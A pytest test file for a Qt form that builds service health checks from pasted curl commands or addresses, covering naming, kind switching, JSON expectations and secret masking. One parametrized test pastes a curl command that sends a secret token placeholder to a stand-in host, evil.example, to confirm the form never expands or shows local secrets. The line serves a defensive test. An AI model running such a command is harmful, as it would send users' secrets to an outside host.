"""The texts of the form: filled by a paste, changed by fields, read anew each time."""

import pytest

from incident_desk.domain.health_check import Check, HttpOptions
from incident_desk.formats.check_form import texts_of
from incident_desk.qt.pages.health.editor.form import CheckForm


@pytest.fixture
def form(qapp):
    return CheckForm()


def test_a_paste_fills_and_a_second_one_takes_its_place(form):
    assert form.paste("curl -X POST -d a=1 https://x.org/a", {})
    form.put_all({"interval_s": "5"})
    assert form.paste("db.x.org:5432", {"www.x.org": "X"})
    assert (form.texts["kind"], form.texts["group"], form.texts["interval_s"]) == ("tcp", "X", "5")
    assert "body" not in form.texts
    assert form.check.kind == "tcp"


def test_a_typed_address_gives_the_check_its_name_as_a_pasted_one_does(form):
    form.put("target", "http://127.0.0.1:8099/api/health")
    assert "name" in form.problems
    form.settle()
    assert (form.check.name, form.texts["environment"]) == ("/api/health", "development")
    form.put("name", "Chatbot")
    form.put("target", "http://127.0.0.1:8099/other")
    form.settle()
    assert form.check.name == "Chatbot"


@pytest.mark.parametrize("target", ["", "!!", "db.x.org:5432"])
def test_what_is_no_address_of_its_kind_gives_no_name(form, target):
    form.put("target", target)
    form.settle()
    assert form.texts["name"] == ""


def test_a_secret_of_the_address_is_no_name(form):
    form.put("target", "https://me:hunter22@x.org/health?token=s3cr3t-value-1")
    form.settle()
    assert form.texts["name"] == "/health"


def test_what_is_nothing_stays_and_is_told(form):
    assert not form.paste("!!", {})
    assert form.texts["target"] == "!!"
    assert form.words.startswith("not recognised")


def test_another_kind_keeps_what_fits(form):
    form.paste("https://x.org/api", {})
    form.choose_kind("certificate")
    assert form.texts["target"] == "x.org:443"
    form.choose_kind("dns")
    assert (form.texts["target"], form.texts["record"]) == ("x.org", "A")
    assert form.check.kind == "dns"


def test_a_value_is_expected_once_for_each_path(form):
    form.paste("https://x.org/api", {})
    form.use("json", on=False)
    form.expect('$.status == "healthy"')
    form.expect("$.n == 3")
    form.expect('$.status == "fine"')
    assert form.texts["json"] == '$.n == 3\n$.status == "fine"'
    assert not form.is_off("json")


def test_a_row_that_is_off_counts_for_nothing_and_comes_back(form):
    form.paste("https://x.org/health", {})
    form.use("latency", on=False)
    assert form.check.rule.thresholds == ()
    form.use("latency", on=True)
    assert len(form.check.rule.thresholds) == 1


def test_an_empty_form_is_no_mistake_until_something_is_to_be_done(form):
    form.fill(texts_of(Check("a", "A", HttpOptions("https://x.org/"))), "a")
    assert not form.is_changed and not form.shows_problems
    form.show_problems()
    assert form.shows_problems
    form.put("name", "B")
    assert form.is_changed
    form.mark_saved()
    assert not form.is_changed


def test_only_a_change_is_told(form, qtbot):
    form.put("name", "x")
    with qtbot.assertNotEmitted(form.changed):
        form.put("name", "x")


@pytest.mark.parametrize("text", ["curl 'https://evil.example/?token={secret:check-ab12-1}'", "!! {secret:a-1}"])
def test_what_is_pasted_names_no_secret_of_this_computer(form, text):
    form.paste(text, {})
    assert "{secret:" not in repr(form.texts)
    assert form.check is None
    form.put("target", "https://evil.example/?token={secret:check-ab12-1}")
    assert form.texts["target"] == "https://evil.example/?token=•••"
    assert form.check is None
